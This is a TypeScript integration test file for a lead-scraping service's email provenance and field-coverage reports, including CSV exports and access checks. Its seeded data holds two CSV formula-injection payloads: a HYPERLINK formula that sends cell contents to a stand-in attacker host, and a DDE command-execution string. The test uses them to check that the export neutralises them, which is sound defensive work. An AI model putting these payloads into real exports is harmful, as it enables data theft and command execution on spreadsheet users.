/**
 * Lead quality (issue 15) through the real pipeline against the sandbox world: each lead stores
 * where its email came from (the page it is printed on), its kind and confidence, and why each
 * paid field is empty; the coverage report counts those reasons, as JSON and as CSV. Then the
 * report at 50,000 leads, leads that predate it, formula-safe page URLs and authorization.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Sandbox } from '@leadatlas/sandbox';
import {
  MISSING_REASONS,
  type Lead,
  type SearchCoverage,
  type WizardField,
} from '@leadatlas/shared';
import { createLogger } from '../src/logger.js';
import { emailConfidence } from '../src/domain/search/email-confidence.js';
import { reverifyLeadEmail } from '../src/domain/search/reverify-email.js';
import type { LeadRow } from '../src/domain/search/store.js';
import { get, signedInUser, type TestApp, type TestUser } from './helpers/test-app.js';
import {
  fundOrg,
  startSearch,
  startSearchWorld,
  waitForSearch,
  wizard,
  type SearchWorld,
} from './helpers/search-world.js';

let world: SearchWorld;
let sandbox: Sandbox;
let t: TestApp;
let ana: TestUser;

beforeAll(async () => {
  world = await startSearchWorld();
  ({ sandbox, t } = world);
  ana = await signedInUser(t, 'coverage@example.com');
  await fundOrg(t.pool, ana.orgId, 5000, 'growth');
});
afterAll(async () => world?.close());

const FIELDS: WizardField[] = ['phone', 'website', 'email', 'socialMedia', 'contactPerson'];

/** Counts by field and reason, recounted from the leads' own rows. */
function recount(leads: Array<Pick<LeadRow, 'missing'>>) {
  const counts = new Map<string, number>();
  for (const lead of leads) {
    for (const [field, reason] of Object.entries(lead.missing ?? {})) {
      counts.set(`${field}:${reason}`, (counts.get(`${field}:${reason}`) ?? 0) + 1);
    }
  }
  return counts;
}

function reasonsOf(coverage: SearchCoverage, field: WizardField) {
  const row = coverage.fields.find((entry) => entry.field === field)!;
  return Object.fromEntries(row.missing.map((entry) => [entry.reason, entry.leads]));
}

async function waitForRechecks(searchId: string) {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const { rows } = await t.pool.query<{ n: number }>(
      `select count(*)::int as n from leads where search_id = $1 and email_recheck_at is not null`,
      [searchId],
    );
    if (rows[0]!.n === 0) return;
    if (Date.now() > deadline) throw new Error('greylisted emails were not asked again');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe('a search through the real pipeline', () => {
  let searchId: string;
  let leads: LeadRow[];
  let coverage: SearchCoverage;

  beforeAll(async () => {
    // Restaurants in Barcelona: sites up, down and missing, greylisting and catch-all domains.
    searchId = await startSearch(
      t,
      ana,
      wizard({
        step1: { profession: 'restaurantes', location: 'Barcelona' },
        step3: { selectedFields: ['email', 'socialMedia', 'contactPerson'] },
        step4: { maxLeads: 60 },
      }),
    );
    const done = await waitForSearch(t.pool, searchId, undefined, 90_000);
    expect(done.status).toBe('completed');
    await waitForRechecks(searchId);
    ({ rows: leads } = await t.pool.query<LeadRow>(
      'select * from leads where search_id = $1 order by seq',
      [searchId],
    ));
    const response = await get(t, `/api/searches/${searchId}/coverage`, ana.cookie);
    expect(response.statusCode, response.body).toBe(200);
    coverage = response.json() as SearchCoverage;
  }, 120_000);

  const businessOf = (lead: LeadRow) => {
    const [, type, id] = /^osm:(node|way)\/(\d+)$/.exec(lead.place_key) ?? [];
    return sandbox.world.byOsmId(type as 'node' | 'way', Number(id))!;
  };

  it('stores why each paid field is empty, as the world explains it', () => {
    expect(leads.length).toBeGreaterThan(30);
    let down = 0;
    let none = 0;
    for (const lead of leads) {
      expect(lead.missing).not.toBeNull();
      for (const [field, reason] of Object.entries(lead.missing!)) {
        expect(FIELDS).toContain(field);
        expect(MISSING_REASONS).toContain(reason);
      }
      const business = businessOf(lead);
      if (!business.website) {
        none += 1;
        expect(lead.missing).toMatchObject({ website: 'no_website', contactPerson: 'no_website' });
      } else if (business.site?.state === 'down' || business.site?.state === 'no-dns') {
        down += 1;
        expect(lead.missing).toMatchObject({ website: 'site_down', contactPerson: 'site_down' });
      }
      // A field on the lead is never reported missing, and the reverse.
      expect(lead.missing!.phone === undefined).toBe(lead.phone !== null);
      expect(lead.missing!.contactPerson === undefined).toBe(lead.contact_name !== null);
      expect(lead.missing!.socialMedia === undefined).toBe(Object.keys(lead.socials).length > 0);
    }
    expect(none).toBeGreaterThan(0);
    expect(down).toBeGreaterThan(0);
  });

  it('says where each email came from, what kind it is and how far to trust it', () => {
    const withEmail = leads.filter((lead) => lead.email);
    expect(withEmail.length).toBeGreaterThan(10);
    let kindsAgree = 0;
    let printed = 0;
    for (const lead of withEmail) {
      expect(lead.email_origin).not.toBeNull();
      expect(lead.email_kind).not.toBeNull();
      // Recomputed from what the lead stores (after any greylisting re-check).
      expect(lead.email_confidence).toBe(
        emailConfidence({
          origin: lead.email_origin!,
          status: lead.email_status!,
          catchAll: lead.email_status === 'accept_all',
          kind: lead.email_kind!,
          hasWebsite: lead.website !== null,
          sameDomain: lead.email_same_domain!,
          disposable: lead.email_disposable!,
        }),
      );
      const truth = lead.website ? sandbox.world.siteTruth(new URL(lead.website).hostname) : null;
      if (lead.email_origin === 'page') {
        printed += 1;
        // The page it names is one of the site's pages that shows this very address.
        const page = new URL(lead.email_page!);
        expect(page.hostname).toBe(new URL(lead.website!).hostname);
        expect(truth!.emailPages[lead.email!]).toContain(page.pathname);
        if (truth!.emailKinds[lead.email!] === lead.email_kind) kindsAgree += 1;
      } else if (lead.email_origin === 'pattern') {
        // Guessed for the contact and confirmed: their real mailbox, shown on no page.
        expect(lead.email_page).toBeNull();
        expect(lead.email_kind).toBe('person');
        expect(lead.email_status).toBe('valid');
        expect(Object.values(truth!.mailboxes)).toContain(lead.email);
      } else {
        expect(lead.email_page).toBeNull();
        expect(lead.email_origin).toBe('source');
        expect(businessOf(lead).email?.toLowerCase()).toBe(lead.email);
      }
    }
    expect(printed).toBeGreaterThan(5);
    expect(kindsAgree / printed).toBeGreaterThanOrEqual(0.9);
    // Leads without an email carry none of it.
    for (const lead of leads.filter((entry) => !entry.email)) {
      expect(lead).toMatchObject({ email_origin: null, email_page: null, email_confidence: null });
    }
  });

  it('counts every paid field: found plus each reason is every lead', () => {
    expect(coverage.leads).toBe(leads.length);
    expect(coverage.unrecorded).toBe(0);
    expect(coverage.fields.map((row) => row.field)).toEqual(FIELDS);
    const counts = recount(leads);
    for (const row of coverage.fields) {
      const without = row.missing.reduce((sum, entry) => sum + entry.leads, 0);
      expect(row.found + without).toBe(leads.length);
      expect(row.found).toBe(leads.filter((lead) => !lead.missing![row.field]).length);
      for (const entry of row.missing) {
        expect(entry.leads).toBe(counts.get(`${row.field}:${entry.reason}`));
      }
      // Most frequent first.
      const sizes = row.missing.map((entry) => entry.leads);
      expect(sizes).toEqual([...sizes].sort((a, b) => b - a));
    }
  });

  it('email: found means verified; a basic one says whether the domain accepts all or nobody answered', () => {
    const email = coverage.fields.find((row) => row.field === 'email')!;
    const status = (value: string) => leads.filter((lead) => lead.email_status === value).length;
    expect(email.found).toBe(status('valid'));
    const reasons = reasonsOf(coverage, 'email');
    expect(reasons.accept_all ?? 0).toBe(status('accept_all'));
    expect(reasons.verification_unavailable ?? 0).toBe(status('unknown'));
    expect(status('accept_all')).toBeGreaterThan(0);
    // The rest have no email, each for a reason about the site or the addresses.
    const noEmail = leads.filter((lead) => !lead.email).length;
    const others = (
      ['no_website', 'site_down', 'robots', 'nothing_on_site', 'all_invalid'] as const
    )
      .map((reason) => reasons[reason] ?? 0)
      .reduce((a, b) => a + b, 0);
    expect(others).toBe(noEmail);
    // Some were greylisted and confirmed when asked again: their reason and score followed.
    const confirmedLater = leads.filter(
      (lead) => lead.email_status === 'valid' && lead.fields_delivered.includes('email_basic'),
    );
    expect(confirmedLater.length).toBeGreaterThan(0);
    for (const lead of confirmedLater) {
      expect(lead.missing!.email).toBeUndefined();
      expect(lead.email_confidence).toBeGreaterThanOrEqual(80);
    }
  });

  it('the leads API and the export say the same', async () => {
    const page = (
      await get(t, `/api/searches/${searchId}/leads?pageSize=500`, ana.cookie)
    ).json() as { items: Lead[] };
    const byId = new Map(leads.map((lead) => [lead.id, lead]));
    for (const lead of page.items) {
      const row = byId.get(lead.id)!;
      expect(lead).toMatchObject({
        emailOrigin: row.email_origin,
        emailPage: row.email_page,
        emailKind: row.email_kind,
        emailConfidence: row.email_confidence,
        missing: row.missing,
      });
    }
    const csv = await get(
      t,
      `/api/searches/${searchId}/export.csv?columns=email,email_source,email_confidence,email_kind`,
      ana.cookie,
    );
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('email,email_source,email_confidence,email_kind');
    for (const [index, row] of leads.entries()) {
      const source = row.email_origin === 'page' ? row.email_page : row.email_origin;
      expect(lines[index + 1]).toBe(
        [row.email ?? '', source ?? '', row.email_confidence ?? '', row.email_kind ?? ''].join(','),
      );
    }
  });

  it('the companion CSV in the reader language, with the same counts', async () => {
    const response = await get(t, `/api/searches/${searchId}/coverage.csv?headers=es`, ana.cookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="coverage_${searchId}.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = response.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('Campo,Resultado,Leads,Porcentaje');
    const email = coverage.fields.find((row) => row.field === 'email')!;
    const share = Math.round((email.found * 1000) / coverage.leads) / 10;
    expect(lines).toContain(`Email verificado,Obtenido,${email.found},${share}`);
    const lineCount = coverage.fields.reduce((sum, row) => sum + 1 + row.missing.length, 0);
    expect(lines).toHaveLength(lineCount + 1);

    const keys = await get(t, `/api/searches/${searchId}/coverage.csv`, ana.cookie);
    const keyLines = keys.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(keyLines[0]).toBe('field,outcome,leads,share');
    expect(keyLines).toContain(`email,found,${email.found},${share}`);
    const en = await get(t, `/api/searches/${searchId}/coverage.csv?headers=en`, ana.cookie);
    expect(en.body).toContain('Field,Outcome,Leads,Share (%)');
    expect(en.body).toContain(`Verified email,Found,${email.found},${share}`);
  });

  // Last: it changes two leads the tests above read.
  it('an answer given later changes the score and the reason', async () => {
    const [first, second] = leads.filter((lead) => lead.email_origin === 'page');
    const answer = (status: 'accept_all' | 'invalid') => ({
      verify: async (email: string) => ({
        email,
        status,
        reason: status === 'invalid' ? 'mailbox_not_found' : 'catch_all',
        disposable: false,
        role: false,
        catchAll: status === 'accept_all',
        mxHost: null,
      }),
    });
    const read = async (id: string) =>
      (await t.pool.query<LeadRow>('select * from leads where id = $1', [id])).rows[0]!;
    for (const [lead, status] of [
      [first!, 'accept_all'],
      [second!, 'invalid'],
    ] as const) {
      // As if its server had greylisted the probe during the run.
      await t.pool.query(
        `update leads set email_status = 'unknown', email_status_reason = 'greylisted',
           email_confidence = 1, missing = missing || '{"email": "verification_unavailable"}'
         where id = $1`,
        [lead.id],
      );
      await reverifyLeadEmail(
        { pool: t.pool, log: createLogger('silent'), verifier: answer(status), delayMs: 10 },
        lead.id,
        1,
      );
    }
    const acceptAll = await read(first!.id);
    expect(acceptAll.email_status).toBe('accept_all');
    expect(acceptAll.missing!.email).toBe('accept_all');
    expect(acceptAll.email_confidence).toBe(
      emailConfidence({
        origin: 'page',
        status: 'accept_all',
        catchAll: true,
        kind: first!.email_kind!,
        hasWebsite: true,
        sameDomain: first!.email_same_domain!,
        disposable: false,
      }),
    );
    expect(await read(second!.id)).toMatchObject({
      email: null,
      email_origin: null,
      email_page: null,
      email_kind: null,
      email_confidence: null,
      missing: { ...second!.missing, email: 'all_invalid' },
    });
  });
});

describe('at scale, and leads from before the report', () => {
  let searchId: string;
  const N = 50_000;

  beforeAll(async () => {
    const { rows } = await t.pool.query<{ id: string }>(
      `insert into searches (org_id, query, params, fields, max_leads, source, status, stage)
       values ($1, 'clínicas · Sevilla', $2, '{phone,website,email_validated,contact_person}',
         50000, 'osm', 'completed', 'done')
       returning id`,
      [ana.orgId, JSON.stringify({ wizardFields: ['phone', 'website', 'email', 'contactPerson'] })],
    );
    searchId = rows[0]!.id;
    // n % 10 = 0: stored before issue 15 (nulls); otherwise three outcomes in turn.
    await t.pool.query(
      `insert into leads (search_id, org_id, place_key, business_name, phone, email,
         email_status, email_origin, email_page, email_kind, email_same_domain, email_confidence,
         missing, fields_delivered)
       select $1, $2, 'osm:node/' || n, 'Clínica ' || n, '+34954000000',
         case when n % 3 = 2 then null else 'ana@clinica' || n || '.es' end,
         case when n % 3 = 0 then 'valid' when n % 3 = 1 then 'accept_all' end,
         case when n % 10 = 0 or n % 3 = 2 then null when n % 3 = 0 then 'pattern' else 'page' end,
         case when n % 10 = 0 or n % 3 <> 1 then null
              when n % 7 = 0 then '=HYPERLINK("http://evil.example/?x="&A1)'
              when n % 7 = 1 then '@SUM(1+1)*cmd|'' /C calc''!A0'
              else 'https://clinica' || n || '.es/equipo' end,
         case when n % 10 = 0 or n % 3 = 2 then null else 'person' end,
         case when n % 10 = 0 or n % 3 = 2 then null else true end,
         case when n % 10 = 0 or n % 3 = 2 then null when n % 3 = 0 then 85 else 70 end,
         case when n % 10 = 0 then null
              when n % 3 = 0 then '{}'::jsonb
              when n % 3 = 1 then '{"email": "accept_all", "contactPerson": "nothing_on_site"}'
              else '{"website": "no_website", "email": "no_website", "contactPerson": "no_website"}'
         end,
         '{business_name,phone}'
       from generate_series(1, $3::int) as n`,
      [searchId, ana.orgId, N],
    );
  }, 60_000);

  function expected() {
    const tally = { unrecorded: 0, valid: 0, acceptAll: 0, noWebsite: 0 };
    for (let n = 1; n <= N; n += 1) {
      if (n % 10 === 0) tally.unrecorded += 1;
      else if (n % 3 === 0) tally.valid += 1;
      else if (n % 3 === 1) tally.acceptAll += 1;
      else tally.noWebsite += 1;
    }
    return tally;
  }

  it('counts 50,000 leads in one quick query; older leads are unknown, not guessed', async () => {
    const started = performance.now();
    const response = await get(t, `/api/searches/${searchId}/coverage`, ana.cookie);
    const ms = performance.now() - started;
    console.info(`coverage of ${N} leads: ${ms.toFixed(0)} ms`);
    expect(response.statusCode).toBe(200);
    expect(ms).toBeLessThan(3000);
    const coverage = response.json() as SearchCoverage;
    const tally = expected();
    expect(coverage).toEqual({
      leads: N,
      unrecorded: tally.unrecorded,
      fields: [
        { field: 'phone', found: N - tally.unrecorded, missing: [] },
        {
          field: 'website',
          found: N - tally.unrecorded - tally.noWebsite,
          missing: [{ reason: 'no_website', leads: tally.noWebsite }],
        },
        {
          field: 'email',
          found: tally.valid,
          // As many of each: a tie keeps the contract's order of reasons.
          missing: [
            { reason: 'no_website', leads: tally.noWebsite },
            { reason: 'accept_all', leads: tally.acceptAll },
          ],
        },
        {
          field: 'contactPerson',
          found: tally.valid,
          missing: [
            { reason: 'no_website', leads: tally.noWebsite },
            { reason: 'nothing_on_site', leads: tally.acceptAll },
          ],
        },
      ],
    });

    const csv = await get(t, `/api/searches/${searchId}/coverage.csv?headers=en`, ana.cookie);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const unknown = Math.round((tally.unrecorded * 1000) / N) / 10;
    expect(lines).toContain(
      `Verified email,No data (lead found before this report),${tally.unrecorded},${unknown}`,
    );
    expect(lines).toContain(
      `Verified email,Domain accepts any address (delivered as a basic email),${tally.acceptAll},${Math.round((tally.acceptAll * 1000) / N) / 10}`,
    );
  }, 60_000);

  it('the API shows an older lead with nulls, never made-up values', async () => {
    const page = (
      await get(t, `/api/searches/${searchId}/leads?pageSize=10`, ana.cookie)
    ).json() as { items: Lead[] };
    const old = page.items.find((lead) => lead.businessName === 'Clínica 10')!;
    expect(old).toMatchObject({
      email: 'ana@clinica10.es',
      emailOrigin: null,
      emailPage: null,
      emailKind: null,
      emailConfidence: null,
      missing: null,
    });
    expect(page.items.find((lead) => lead.businessName === 'Clínica 3')).toMatchObject({
      emailOrigin: 'pattern',
      emailConfidence: 85,
      missing: {},
    });
  });

  it('page URLs that start like a formula are neutralised in the export', async () => {
    const response = await get(
      t,
      `/api/searches/${searchId}/export.csv?columns=business_name,email_source,email_confidence`,
      ana.cookie,
    );
    const lines = response.body.split('\r\n');
    const row = (n: number) => lines[n]!; // line n is lead n (header first)
    expect(row(7)).toBe(`Clínica 7,"'=HYPERLINK(""http://evil.example/?x=""&A1)",70`);
    expect(row(1)).toBe(`Clínica 1,'@SUM(1+1)*cmd|' /C calc'!A0,70`);
    expect(row(4)).toBe('Clínica 4,https://clinica4.es/equipo,70');
    expect(row(3)).toBe('Clínica 3,pattern,85');
    expect(row(2)).toBe('Clínica 2,,');
    expect(row(10)).toBe('Clínica 10,,');
  }, 60_000);
});

describe('authorization', () => {
  it("another organization's user gets 404, a stranger 401, for the report and its CSV", async () => {
    const { rows } = await t.pool.query<{ id: string }>(
      `insert into searches (org_id, query, params, fields, max_leads, source, status, stage)
       values ($1, 'x', '{}', '{phone}', 1, 'osm', 'completed', 'done') returning id`,
      [ana.orgId],
    );
    const searchId = rows[0]!.id;
    const other = await signedInUser(t, 'coverage-other@example.com');
    for (const path of ['coverage', 'coverage.csv', 'coverage.csv?headers=es']) {
      const url = `/api/searches/${searchId}/${path}`;
      expect((await get(t, url, other.cookie)).statusCode, url).toBe(404);
      expect((await get(t, url)).statusCode, url).toBe(401);
      expect((await get(t, url, ana.cookie)).statusCode, url).toBe(200);
    }
    // A search without stored fields (params {}) reports no field, not an error.
    const empty = (await get(t, `/api/searches/${searchId}/coverage`, ana.cookie)).json();
    expect(empty).toEqual({ leads: 0, unrecorded: 0, fields: [] });
    const bad = await get(t, `/api/searches/${searchId}/coverage.csv?headers=fr`, ana.cookie);
    expect(bad.statusCode).toBe(400);
    expect((await get(t, '/api/searches/not-a-uuid/coverage', ana.cookie)).statusCode).toBe(400);
  });
});
